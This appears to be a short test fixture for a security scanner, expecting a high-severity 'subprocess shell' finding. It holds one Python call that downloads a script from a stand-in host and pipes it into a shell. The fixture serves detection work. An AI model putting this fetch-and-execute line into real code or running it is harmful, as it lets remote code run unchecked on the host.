# expect: python.subprocess_shell high
# path: tools/bootstrap.py
import subprocess
subprocess.run('curl -s https://get.example.net/x.py | sh', shell=1)
